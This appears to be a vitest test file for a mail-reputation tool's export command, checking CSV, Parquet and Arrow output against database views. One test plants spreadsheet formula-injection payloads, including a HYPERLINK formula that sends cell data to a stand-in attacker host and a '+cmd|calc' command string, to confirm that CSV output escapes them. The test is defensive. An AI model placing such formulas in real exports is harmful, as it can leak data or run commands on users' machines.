import { mkdtempSync, readFileSync, rmSync, existsSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { tableFromIPC } from 'apache-arrow';
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from 'hyparquet';
import { describeEachBackend } from '../support/backends.js';
import { runCliCaptured } from '../support/run-cli.js';
import type { Database } from '../../db/connection.js';
import { openFile } from '../../reports/export/writers.js';
import { exportTable } from '../../reports/export/export-table.js';
import { EXPORT_TABLES, EXPORT_TABLE_NAMES, type ExportColumn, type ExportTableName } from '../../reports/export/tables.js';
import { EXPORT_FORMATS, type ExportFormat } from '../../reports/export/writers.js';
import { AS_OF, insertFixture } from './fixture.js';
import { addDays } from '../../lib/clock.js';

type Row = Record<string, unknown>;

/** One canonical form per column type, so a value read back from any format compares with the database's. */
function canonical(c: ExportColumn, v: unknown): unknown {
  if (c.type === 'text[]') {
    if (v === null || v === undefined || v === '') return [];
    if (typeof v === 'string') return v.split(';');
    return [...(v as Iterable<string>)];
  }
  if (v === null || v === undefined || v === '') return null;
  switch (c.type) {
    case 'date':
      return typeof v === 'string' ? v.slice(0, 10) : new Date(v instanceof Date ? v.getTime() : Number(v)).toISOString().slice(0, 10);
    case 'timestamp':
      return new Date(v instanceof Date ? v.getTime() : typeof v === 'string' ? Date.parse(v) : Number(v)).toISOString();
    case 'int32':
    case 'int64':
    case 'float64':
      return Number(v);
    case 'bool':
      return v === true || v === 'true';
    default:
      return String(v);
  }
}

const normalise = (columns: readonly ExportColumn[], rows: Row[]) => rows.map((r) => Object.fromEntries(columns.map((c) => [c.name, canonical(c, r[c.name])])));

async function expected(database: Database, name: ExportTableName, from?: string, to?: string): Promise<Row[]> {
  const t = EXPORT_TABLES[name];
  const where = [from && `${t.dateColumn} >= '${from}'`, to && `${t.dateColumn} <= '${to}'`].filter(Boolean);
  const rows = await database.query<Row>(
    `select ${t.columns.map((c) => `${c.select} as ${c.name}`).join(', ')} from ${t.view} v ${where.length ? `where ${where.join(' and ')}` : ''} order by ${t.orderBy}`,
  );
  return normalise(t.columns, rows);
}

async function readBack(format: ExportFormat, path: string, name: ExportTableName): Promise<Row[]> {
  const columns = EXPORT_TABLES[name].columns;
  if (format === 'arrow') return normalise(columns, tableFromIPC(readFileSync(path)).toArray().map((r) => r.toJSON() as Row));
  if (format === 'parquet') return normalise(columns, (await parquetReadObjects({ file: await asyncBufferFromFile(path) })) as Row[]);
  const parsed = Papa.parse<Row>(readFileSync(path, 'utf8'), { header: true, skipEmptyLines: true });
  expect(parsed.meta.fields).toEqual(columns.map((c) => c.name));
  return normalise(columns, parsed.data);
}

describeEachBackend('export of the analytics views', (db) => {
  const dir = mkdtempSync(join(tmpdir(), 'repwatch-export-'));
  beforeAll(async () => {
    await insertFixture(db());
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  for (const name of EXPORT_TABLE_NAMES) {
    for (const format of EXPORT_FORMATS) {
      it(`${name} as ${format}: read back, it equals the view`, async () => {
        const out = join(dir, `${name}.${format}`);
        const result = await exportTable(db(), { table: name, format, out, batchSize: 7 });
        const want = await expected(db(), name);
        expect(want.length).toBeGreaterThan(0);
        expect(result.rows).toBe(want.length);
        expect(await readBack(format, out, name)).toEqual(want);
        expect(existsSync(`${out}.partial`)).toBe(false);
      });
    }
  }

  it('orders rows by address, not by the text of the address (192.0.2.9 before 192.0.2.10)', async () => {
    await db().query(
      `insert into repwatch.ip_day_fact (ip, day, rcpt_commands, data_commands, message_recipients, filter_result, trap_hits, complaints, has_snds, has_red, has_yellow)
       select ip::inet, '2026-10-01', 1, 1, 1, 'GREEN', 0, 0, true, false, false from unnest(array['192.0.2.10', '192.0.2.9', '192.0.2.100', '10.0.0.1']) as ip`,
    );
    const out = join(dir, 'ordered.csv');
    await exportTable(db(), { table: 'ip_day', format: 'csv', out, from: '2026-10-01', to: '2026-10-01' });
    const ips = Papa.parse<Row>(readFileSync(out, 'utf8'), { header: true, skipEmptyLines: true }).data.map((r) => String(r.ip));
    const ours = ['10.0.0.1', '192.0.2.9', '192.0.2.10', '192.0.2.100'];
    expect(ips.filter((ip) => ours.includes(ip))).toEqual(ours);
  });

  it('CSV never carries a spreadsheet formula from a complaint report (a leading \' is added); Parquet keeps the text as it is', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const [message] = await db().query<{ id: number }>(
      `insert into repwatch.mail_message (stream, mailbox, message_key, sha256, byte_size, stored_at, classification)
       values ('jmrp', 'formulas', 'formula-1', 'sha-formula-1', 100, '2026-09-01T08:00:00Z', 'arf') returning id`,
    );
    await db().query(
      `insert into repwatch.feedback_report (message_ref, mailbox, report_format, feedback_type, is_complaint, source_ip, source_ip_origin,
         complained_at, day, incidents, reported_domain, original_from_domain, campaign, subject, user_agent)
       values ($1, 'formulas', 'arf', 'abuse', true, '192.0.2.200', 'Source-IP', '2026-09-01T07:00:00Z', '2026-09-01', 1, '@SUM(1+1)', 'shop.example', $2, 'x', '+cmd|calc')`,
      [message!.id, formula],
    );
    const csv = join(dir, 'formulas.csv');
    await exportTable(db(), { table: 'complaint', format: 'csv', out: csv, from: '2026-09-01', to: '2026-09-01' });
    const [row] = Papa.parse<Row>(readFileSync(csv, 'utf8'), { header: true, skipEmptyLines: true }).data;
    expect(row).toMatchObject({ campaign: `'${formula}`, reported_domain: "'@SUM(1+1)", user_agent: "'+cmd|calc", original_from_domain: 'shop.example', day: '2026-09-01' });
    const parquet = join(dir, 'formulas.parquet');
    await exportTable(db(), { table: 'complaint', format: 'parquet', out: parquet, from: '2026-09-01', to: '2026-09-01' });
    const [kept] = (await parquetReadObjects({ file: await asyncBufferFromFile(parquet) })) as Row[];
    expect(kept).toMatchObject({ campaign: formula, reported_domain: '@SUM(1+1)', user_agent: '+cmd|calc' });
  });

  it('writes one Parquet row group per batch (the file is streamed, not built in memory)', async () => {
    const out = join(dir, 'groups.parquet');
    const { rows } = await exportTable(db(), { table: 'ip_day', format: 'parquet', out, batchSize: 50 });
    const metadata = await parquetMetadataAsync(await asyncBufferFromFile(out));
    expect(metadata.row_groups).toHaveLength(Math.ceil(rows / 50));
    expect(metadata.row_groups.every((g) => Number(g.num_rows) <= 50)).toBe(true);
  });

  it('writes one Arrow record batch per batch', async () => {
    const out = join(dir, 'batches.arrow');
    const { rows } = await exportTable(db(), { table: 'ip_day', format: 'arrow', out, batchSize: 50 });
    expect(tableFromIPC(readFileSync(out)).batches).toHaveLength(Math.ceil(rows / 50));
  });

  it('filters on the date column with --from and --to, and writes an empty file with its schema', async () => {
    const from = addDays(AS_OF, -6);
    for (const format of EXPORT_FORMATS) {
      const out = join(dir, `week.${format}`);
      await exportTable(db(), { table: 'ip_day', format, out, from, to: AS_OF });
      const got = await readBack(format, out, 'ip_day');
      expect(got).toEqual(await expected(db(), 'ip_day', from, AS_OF));
      expect(got.every((r) => (r.day as string) >= from && (r.day as string) <= AS_OF)).toBe(true);

      const empty = join(dir, `empty.${format}`);
      expect((await exportTable(db(), { table: 'ip_flag', format, out: empty, from: '2030-01-01' })).rows).toBe(0);
      expect(await readBack(format, empty, 'ip_flag')).toEqual([]);
    }
    expect(tableFromIPC(readFileSync(join(dir, 'empty.arrow'))).schema.fields.map((f) => f.name)).toEqual(EXPORT_TABLES.ip_flag.columns.map((c) => c.name));
  });

  it('rejects (never hangs) in every format when the file cannot be created, and leaves no file', async () => {
    const aFile = join(dir, 'a-file');
    writeFileSync(aFile, 'x');
    for (const format of EXPORT_FORMATS) {
      for (const out of [join(dir, 'no-such-folder', `x.${format}`), join(aFile, `x.${format}`)]) {
        await expect(exportTable(db(), { table: 'ip_day', format, out }), `${format} ${out}`).rejects.toThrow(`cannot write ${out}`);
        expect(existsSync(out)).toBe(false);
      }
    }
  });
});

describe('repwatch export (CLI)', () => {
  it('refuses bad options with exit code 2 before touching a database', async () => {
    for (const args of [
      ['--format', 'xlsx', '--out', '/tmp/x'],
      ['--format', 'csv', '--table', 'secrets', '--out', '/tmp/x'],
      ['--format', 'csv', '--from', '2026-13-01', '--out', '/tmp/x'],
      ['--format', 'csv', '--from', '2026-11-02', '--to', '2026-11-01', '--out', '/tmp/x'],
      ['--format', 'csv'],
    ]) {
      const result = await runCliCaptured(['export', ...args], { env: { REPWATCH_HOME: '/nonexistent/never-created' } });
      expect(result.code, args.join(' ')).toBe(2);
    }
  });

  it('--out - is a usage error (exit 2), not a file named "-"', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'repwatch-export-dash-'));
    try {
      const result = await runCliCaptured(['export', '--format', 'csv', '--out', '-'], { env: { REPWATCH_HOME: join(dir, 'home') }, cwd: dir });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/--out - : export writes a file/);
      expect(existsSync(join(dir, '-'))).toBe(false);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('exits 1 with a message naming --out when its folder is missing or is a file, in every format', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'repwatch-export-cli-'));
    try {
      const aFile = join(dir, 'a-file');
      writeFileSync(aFile, 'x');
      for (const format of EXPORT_FORMATS) {
        for (const out of [join(dir, 'nodir', `x.${format}`), join(aFile, `x.${format}`)]) {
          const result = await runCliCaptured(['export', '--format', format, '--out', out], { env: { REPWATCH_HOME: join(dir, 'home') } });
          expect(result.code, `${format} ${out}`).toBe(1);
          // (the random part of the temp folder's name may be redacted in messages)
          expect(result.stderr).toMatch(new RegExp(`cannot write \\S*/${out.split('/').slice(-2).join('/').replace(/\./g, '\\.')}: `));
        }
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('export file writes', () => {
  it('waiting for a full write buffer to drain leaves no listeners behind, however many times it waits', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'repwatch-drain-'));
    try {
      const out = await openFile(join(dir, 'big.csv'));
      const chunk = 'x'.repeat(64 * 1024);
      let waits = 0;
      for (let i = 0; i < 40; i++) {
        if (!out.stream.write(chunk)) waits += 1;
        await out.drain();
      }
      expect(waits).toBeGreaterThan(10); // each write filled the 16 KiB buffer: drain really waited
      for (const event of ['drain', 'close', 'finish', 'error', 'end']) expect(out.stream.listenerCount(event), event).toBeLessThanOrEqual(2);
      await out.close();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
